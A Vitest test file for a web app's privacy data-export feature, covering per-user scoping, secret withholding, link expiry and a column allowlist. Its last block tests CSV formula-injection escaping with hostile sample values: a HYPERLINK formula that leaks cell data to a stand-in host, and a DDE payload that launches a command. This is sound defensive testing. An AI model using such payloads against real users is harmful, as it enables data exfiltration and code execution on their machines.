import { randomUUID } from "node:crypto";
import { eq, getTableColumns, sql } from "drizzle-orm";
import { getTableConfig, pgTable, text, timestamp, uuid } from "drizzle-orm/pg-core";
import { strFromU8, unzipSync } from "fflate";
import { describe, expect, it } from "vitest";
import { GET as downloadGET } from "~/app/api/privacy/exports/[id]/route";
import { getDb, selectRows } from "~/server/db/client";
import { dataExports, devices, integrations, integrationWebhooks, jobEvents, jobRuns, jobSteps, users } from "~/server/db/schema";
import { databaseColumnName, userOwnedTableNames } from "~/server/db/tables";
import { getJobRunner } from "~/server/jobs/send";
import { buildExport, EXPORT_BUILD_DEADLINE_MS, EXPORT_POLICY, exportedColumns, renderExport, unclassifiedColumns } from "~/server/privacy/export";
import { anonymousCaller, callerFor, sessionCookieFor, signedUpUser, TEST_PASSWORD, uniqueEmail } from "../support/callers";
import { fullyUsedAccount } from "../support/privacy";
import { listenRealtime, NOTIFICATION_TRAFFIC } from "../support/realtime";

const tableName = (entry: (typeof EXPORT_POLICY)[number]) => getTableConfig(entry.table).name;
const NEVER_EXPORTED = EXPORT_POLICY.filter((entry) => entry.kind === "withheld").map(tableName);
/** Each exported table's columns, as the database names them. */
const EXPORTED_COLUMNS = Object.fromEntries(EXPORT_POLICY.flatMap((entry) => (entry.kind === "exported" ? [[tableName(entry), Object.keys(exportedColumns(entry))]] : [])));

async function exportOf(account: Awaited<ReturnType<typeof fullyUsedAccount>>, format: "json" | "csv") {
  // What the export announces (the job engine's own job:run_updated per attempt, and the notification about it, left out).
  const { heard, stop } = listenRealtime(account.user.id, { except: NOTIFICATION_TRAFFIC });
  const { exportId } = await account.caller.privacy.export({ format });
  await getJobRunner().idle();
  stop();
  const [listed] = await account.caller.privacy.exports();
  const response = await download(account, listed!.downloadUrl ?? `/api/privacy/exports/${exportId}`);
  return { exportId, listed: listed!, heard, response };
}

async function download(account: { user: Parameters<typeof sessionCookieFor>[0] }, path: string) {
  const request = new Request(`http://localhost:3000${path}`, { headers: { cookie: await sessionCookieFor(account.user) } });
  return downloadGET(request, { params: Promise.resolve({ id: path.split("/").pop()! }) });
}

async function countRows(table: string, userId: string) {
  const result = (await (await getDb()).execute(sql.raw(`select count(*)::int as n from "${table}" where user_id = '${userId}'`))) as unknown as { rows?: Array<{ n: number }> } | Array<{ n: number }>;
  return (Array.isArray(result) ? result : result.rows!)[0]!.n;
}

describe("data export", () => {
  it("JSON: every user-owned table with exactly the user's rows, built by a job and announced, without any secret", async () => {
    const account = await fullyUsedAccount("export-json");
    const other = await fullyUsedAccount("export-json-other");
    // A run's step results and an accepted event, of each user: each export holds only its owner's.
    const runSteps = async (userId: string) => {
      const db = await getDb();
      const [run] = await db.insert(jobRuns).values({ runId: randomUUID(), userId, functionId: "test-export-sleeping-run", eventName: "integration/sync.requested", status: "sleeping", event: { name: "integration/sync.requested", data: { userId } } }).returning();
      await db.insert(jobSteps).values([{ runId: run!.runId, stepKey: "list-repositories", output: [{ fullName: `${userId}/repo` }] }]);
      await db.insert(jobEvents).values({ id: randomUUID(), userId, name: "integration/sync.requested", data: { userId } });
      return run!.runId;
    };
    const ownRun = await runSteps(account.user.id);
    await runSteps(other.user.id);
    // The export's own announcement (its notification, the decisions and delivery runs for it) is written after the
    // document was built: for those tables the document holds at least what was there before, at most what is there after.
    // Tables the export's own "ready" notification (and its email) may add rows to while the document is built.
    const ANNOUNCED = ["notifications", "notification_decisions", "job_runs", "email_messages", "email_attempts"];
    await getJobRunner().idle();
    const before = Object.fromEntries(await Promise.all(ANNOUNCED.map(async (table) => [table, await countRows(table, account.user.id)] as const)));
    const { listed, heard, response, exportId } = await exportOf(account, "json");
    expect(listed).toMatchObject({ id: exportId, format: "json", status: "ready", downloadUrl: `/api/privacy/exports/${exportId}` });
    expect(heard).toEqual([{ userId: account.user.id, event: "privacy:export_ready", payload: { exportId, format: "json", bytes: listed.bytes } }]);
    // …and a notification through the notification layer (issue 18's "export ready"), once.
    expect((await account.caller.notifications.list()).items.filter((item) => item.kind === "account.export_ready")).toMatchObject([{ title: "Your data export is ready" }]);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-disposition")).toMatch(/attachment; filename="devpulse-export-\d{4}-\d{2}-\d{2}\.json"/);
    const text = await response.text();
    const document = JSON.parse(text) as { tables: Record<string, Array<Record<string, unknown>>> };

    // job_steps has no user_id: its rows are the user's runs' steps.
    const expectedTables = [...userOwnedTableNames().filter((table) => !NEVER_EXPORTED.includes(table)), "users", "login_attempts", "job_steps"].sort();
    expect(NEVER_EXPORTED.sort()).toEqual(["anonymous_aggregates", "data_exports", "integration_tokens", "job_concurrency_slots", "job_events", "job_schedules", "rate_limits", "webhook_deliveries"]);
    expect(Object.keys(document.tables).sort()).toEqual(expectedTables);
    // Each row carries exactly the allowlisted columns: nothing the policy does not name.
    for (const [table, rows] of Object.entries(document.tables)) for (const row of rows) expect(Object.keys(row), table).toEqual(EXPORTED_COLUMNS[table]);
    for (const table of userOwnedTableNames().filter((name) => !NEVER_EXPORTED.includes(name) && name !== "data_exports")) {
      if (ANNOUNCED.includes(table)) {
        expect(document.tables[table]!.length, table).toBeGreaterThanOrEqual(before[table]!);
        expect(document.tables[table]!.length, table).toBeLessThanOrEqual(await countRows(table, account.user.id));
      } else expect(document.tables[table]!.length, table).toBe(await countRows(table, account.user.id));
      expect(document.tables[table]!.every((row) => row.user_id === account.user.id), table).toBe(true);
    }
    expect(document.tables.users).toEqual([expect.objectContaining({ id: account.user.id, email: account.user.email })]);
    expect(document.tables.sync_records!.length).toBeGreaterThan(0);
    expect(document.tables.job_steps).toEqual([{ run_id: ownRun, step_key: "list-repositories", output: [{ fullName: `${account.user.id}/repo` }], completed_at: expect.any(String) }]);
    const exportedRun = document.tables.job_runs!.find((row) => row.run_id === ownRun);
    expect(exportedRun).toMatchObject({ status: "sleeping", event_name: "integration/sync.requested" });
    expect(exportedRun).not.toHaveProperty("event"); // the trigger's parameters are withheld
    expect(document.tables.job_events).toBeUndefined(); // withheld: copies of triggers, which may name other people
    for (const bookkeeping of ["lease_owner", "lease_until", "concurrency_key", "cancel_keys"]) expect(document.tables.job_runs![0], bookkeeping).not.toHaveProperty(bookkeeping);

    // No secret, in any form: tokens, their hashes, sealed tokens, the password hash.
    const db = await getDb();
    const [userRow] = await db.select().from(users).where(eq(users.id, account.user.id));
    const hashes = (await db.select({ hash: devices.tokenHash }).from(devices).where(eq(devices.userId, account.user.id))).map((row) => row.hash);
    for (const secret of [account.accessToken, account.deviceToken, userRow!.passwordHash!, ...hashes]) expect(text).not.toContain(secret);
    expect(text).not.toMatch(/tv1\.[0-9a-f]{8}\./);
    expect(text).not.toContain(other.user.id);
    expect((await account.caller.privacy.processingLog({ activity: "export" })).items).toHaveLength(1);
  });

  it("CSV: a zip with one file per table, a header and one line per row", async () => {
    const account = await fullyUsedAccount("export-csv");
    const { response } = await exportOf(account, "csv");
    expect(response.headers.get("content-type")).toBe("application/zip");
    const files = unzipSync(new Uint8Array(await response.arrayBuffer()));
    expect(Object.keys(files)).toContain("sync_records.csv");
    const records = strFromU8(files["sync_records.csv"]!).trim().split("\r\n");
    expect(records[0]).toMatch(/^user_id,collection,record_id,revision,seq,ciphertext/);
    expect(records.length - 1).toBe(await countRows("sync_records", account.user.id));
    expect(strFromU8(files["users.csv"]!)).not.toContain("password_hash");
    expect(Object.keys(files)).not.toContain("integration_tokens.csv");
  });

  it("downloads only for its owner and only while the link lasts", async () => {
    const owner = await fullyUsedAccount("export-owner");
    const stranger = await fullyUsedAccount("export-stranger");
    const { exportId, listed } = await exportOf(owner, "json");
    expect((await download(stranger, listed.downloadUrl!)).status).toBe(404);
    await (await getDb()).update(dataExports).set({ expiresAt: new Date(Date.now() - 1000) }).where(eq(dataExports.id, exportId));
    const expired = await download(owner, `/api/privacy/exports/${exportId}`);
    expect(expired.status).toBe(410);
    expect(await expired.json()).toEqual({ error: "This export link expired: ask for a new export on the Privacy page." });
    expect((await owner.caller.privacy.exports())[0]).toMatchObject({ id: exportId, status: "expired", downloadUrl: null });
  });
});

describe("an export's content ends with its link", () => {
  async function expiredExport(label: string) {
    const account = await fullyUsedAccount(label);
    const { exportId } = await exportOf(account, "csv");
    const db = await getDb();
    await db.update(dataExports).set({ expiresAt: new Date(Date.now() - 1000) }).where(eq(dataExports.id, exportId));
    return { account, exportId, db };
  }
  const stored = async (exportId: string) => (await (await getDb()).select().from(dataExports).where(eq(dataExports.id, exportId)))[0]!;
  const deletions = async (account: Awaited<ReturnType<typeof fullyUsedAccount>>) => (await account.caller.privacy.processingLog({ activity: "deletion" })).items;

  it("listing an expired export deletes its content (not just its link) and logs the deletion, once", async () => {
    const { account, exportId } = await expiredExport("export-expire-list");
    expect((await stored(exportId)).content).not.toBeNull(); // still there: nothing has looked since the link ended
    const [listed] = await account.caller.privacy.exports();
    expect(listed).toMatchObject({ id: exportId, status: "expired", downloadUrl: null, bytes: expect.any(Number) });
    expect(await stored(exportId)).toMatchObject({ status: "expired", content: null });
    await account.caller.privacy.exports(); // a second look deletes and logs nothing more
    expect(await deletions(account)).toEqual([
      expect.objectContaining({ activity: "deletion", purpose: "Delete your data export once its download link expired", details: { export: exportId, format: "csv" } }),
    ]);
    expect((await download(account, `/api/privacy/exports/${exportId}`)).status).toBe(410);
  });

  it("a download after the link ended deletes the content too", async () => {
    const { account, exportId } = await expiredExport("export-expire-download");
    expect((await download(account, `/api/privacy/exports/${exportId}`)).status).toBe(410);
    expect(await stored(exportId)).toMatchObject({ status: "expired", content: null });
    expect(await deletions(account)).toHaveLength(1);
  });
});

describe("an export stuck in building", () => {
  const building = async (userId: string, startedMsAgo: number) => {
    const [row] = await (await getDb())
      .insert(dataExports)
      .values({ userId, format: "json", createdAt: new Date(Date.now() - startedMsAgo) })
      .returning({ id: dataExports.id });
    return row!.id;
  };

  it("fails at its deadline (so the page stops polling), can be asked for again, and a late build does not revive it", async () => {
    const { user, caller } = await signedUpUser("export-stuck");
    const crashed = await building(user.id, EXPORT_BUILD_DEADLINE_MS + 60_000);
    const slow = await building(user.id, EXPORT_BUILD_DEADLINE_MS - 60_000);
    const listed = await caller.privacy.exports();
    expect(listed.find((entry) => entry.id === crashed)).toMatchObject({ status: "failed", error: "The export did not finish within 15 minutes: try again.", downloadUrl: null });
    expect(listed.find((entry) => entry.id === slow)).toMatchObject({ status: "building" });
    expect((await download({ user }, `/api/privacy/exports/${crashed}`)).status).toBe(409);

    // The crashed build's job comes back late: it stores nothing and announces nothing.
    const db = await getDb();
    expect(await buildExport(db, user.id, crashed)).toBeNull();
    expect((await db.select().from(dataExports).where(eq(dataExports.id, crashed)))[0]).toMatchObject({ status: "failed", content: null });

    // Trying again is a new export, built as usual.
    const { exportId } = await caller.privacy.export({ format: "json" });
    await getJobRunner().idle();
    expect((await caller.privacy.exports()).find((entry) => entry.id === exportId)).toMatchObject({ status: "ready", downloadUrl: `/api/privacy/exports/${exportId}` });
  });
});

describe("what an export may contain: an allowlist", () => {
  it("names every column of every table in the schema, as exported or withheld", () => {
    expect(unclassifiedColumns()).toEqual([]);
  });

  it("and of every table the database holds (a column added by a migration alone is caught too)", async () => {
    const columns = await selectRows<{ table_name: string; column_name: string }>(
      await getDb(),
      sql`select table_name, column_name from information_schema.columns where table_schema = current_schema() order by table_name, ordinal_position`,
    );
    const policy = new Map(EXPORT_POLICY.map((entry) => [tableName(entry), entry]));
    const named = (entry: (typeof EXPORT_POLICY)[number] & { kind: "exported" }) =>
      Object.entries(getTableColumns(entry.table))
        .filter(([key]) => entry.exported.includes(key) || Object.hasOwn(entry.withheld, key))
        .map(([, column]) => databaseColumnName(column.name));
    const unnamed = columns
      .filter(({ table_name: table, column_name: column }) => {
        const entry = policy.get(table);
        return !entry || (entry.kind === "exported" && !named(entry).includes(column));
      })
      .map(({ table_name: table, column_name: column }) => `${table}.${column}`);
    expect(columns.length).toBeGreaterThan(50);
    expect(unnamed).toEqual([]);
  });

  it("reports a column that neither list names, and a table it does not know", () => {
    // The devices table as it would be with a new secret column nobody classified.
    const devicesLater = pgTable("devices", {
      ...Object.fromEntries(Object.keys(getTableColumns(devices)).map((key) => [key, text()])),
      recoveryCode: text(),
    });
    const apiKeys = pgTable("api_keys", { id: uuid().primaryKey(), userId: uuid().notNull(), secret: text().notNull(), createdAt: timestamp() });
    expect(unclassifiedColumns([devicesLater, apiKeys])).toEqual(["devices.recoveryCode", "api_keys (table)"]);
  });
});

describe("CSV formula injection (OWASP)", () => {
  const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Open project")';

  it("a GitLab project and a name that a spreadsheet would run are text in the real CSV export", async () => {
    const email = uniqueEmail("export-formula");
    const user = await (await anonymousCaller()).auth.register({ email, password: TEST_PASSWORD, name: "@SUM(1+1)*cmd|' /C calc'!A0" });
    const caller = await callerFor(user);
    const db = await getDb();
    const [integration] = await db.insert(integrations).values({ userId: user.id, provider: "gitlab", accountName: "+1+1" }).returning();
    await db.insert(integrationWebhooks).values({ integrationId: integration!.id, userId: user.id, provider: "gitlab", repository: HYPERLINK, hookId: `${Date.now()}` });

    const { exportId } = await caller.privacy.export({ format: "csv" });
    await getJobRunner().idle();
    const response = await download({ user }, `/api/privacy/exports/${exportId}`);
    expect(response.status).toBe(200);
    const files = unzipSync(new Uint8Array(await response.arrayBuffer()));
    const webhooks = strFromU8(files["integration_webhooks.csv"]!);
    expect(webhooks).toContain(`,"'=HYPERLINK(""https://evil.example/?leak=""&A2,""Open project"")",`);
    expect(webhooks).not.toMatch(/(^|,|\n)"?=HYPERLINK/);
    expect(strFromU8(files["users.csv"]!)).toContain(`,"'@SUM(1+1)*cmd|' /C calc'!A0",`);
    expect(strFromU8(files["integrations.csv"]!)).toContain(`,"'+1+1",`);
  });

  it("escapes every cell that starts with =, +, -, @, tab or carriage return, and nothing else", () => {
    const values = ["=1+1", "+1", "-1", "@A1", "\tA1", "\rA1", "plain", "a,b", 'say "hi"', "a-b"];
    const rendered = renderExport("csv", { cells: values.map((value) => ({ value })).concat([{ value: -5 as unknown as string }]) });
    const csv = strFromU8(unzipSync(Buffer.from(rendered.content, "base64"))["cells.csv"]!);
    expect(csv.split("\r\n").slice(0, -1)).toEqual([
      "value",
      `"'=1+1"`,
      `"'+1"`,
      `"'-1"`,
      `"'@A1"`,
      `"'\tA1"`,
      "\"'\rA1\"",
      "plain",
      `"a,b"`,
      `"say ""hi"""`,
      "a-b",
      "-5", // a number is never a formula
    ]);
  });
});
